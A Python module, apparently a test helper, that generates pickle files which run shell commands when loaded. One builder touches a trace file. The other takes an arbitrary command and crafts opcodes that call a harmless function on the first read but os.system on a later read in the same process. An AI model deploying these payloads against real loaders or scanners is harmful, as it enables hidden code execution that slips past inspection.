"""Makes pickles that run code in the process that reads them."""

import os
import pickle
from pathlib import Path


class RunsCode:
    """Creates the file `trace` when a pickle of this object is read."""

    def __init__(self, trace: Path):
        self._command = f"touch {trace}"

    def __reduce__(self):
        return os.system, (self._command,)


def named_when_read_again(command: str, harmless: tuple[str, str], function: tuple[str, str]) -> bytes:
    """Return a pickle of None that calls `harmless` on the first read in a process, and os.system on the next read.

    Both calls get `command`. The pickle stores the name to call in the attribute `cache` of `function`, where
    `function` looks up keys. The first read also gives `function` a `__setstate__` that ignores later changes.
    """

    def text(value: str) -> bytes:
        return pickle.BINUNICODE + len(value.encode()).to_bytes(4, "little") + value.encode()

    def named(module: str, name: str) -> bytes:
        return text(module) + text(name) + pickle.STACK_GLOBAL

    def filled(**values: bytes) -> bytes:
        return pickle.EMPTY_DICT + b"".join(text(key) + value + pickle.SETITEM for key, value in values.items())

    def keep(place: tuple[str, str], **more: bytes) -> bytes:
        cache = filled(module=text(place[0]), name=text(place[1]))
        return named(*function) + filled(cache=cache, **more) + pickle.BUILD + pickle.POP

    def kept(key: str) -> bytes:
        return named(*function) + text(key) + pickle.TUPLE1 + pickle.REDUCE

    call = kept("module") + kept("name") + pickle.STACK_GLOBAL + text(command) + pickle.TUPLE1 + pickle.REDUCE
    after = keep(("os", "system"), __setstate__=named(*harmless))
    return pickle.PROTO + b"\x04" + keep(harmless) + call + pickle.POP + after + pickle.NONE + pickle.STOP
